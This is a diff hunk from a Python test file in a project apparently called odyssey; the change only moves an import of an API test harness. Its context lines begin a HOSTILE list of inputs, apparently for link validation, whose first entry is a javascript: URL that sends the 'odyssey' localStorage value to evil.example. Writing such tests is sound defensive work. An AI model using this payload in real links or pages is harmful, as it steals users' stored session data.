@@ -10,12 +10,12 @@ import uuid
 from typing import Any
 
 import pytest
-from api_harness import Api, Person
 
 from odyssey.core import ids
 from odyssey.core.links import InvalidLink
 from odyssey.core.permissions import AttributeScope
 from odyssey.db.attributes import AttributeRef
+from tests.api.api_harness import Api, Person
 
 HOSTILE = [
     "javascript:fetch('//evil.example/?'+localStorage.getItem('odyssey'))",
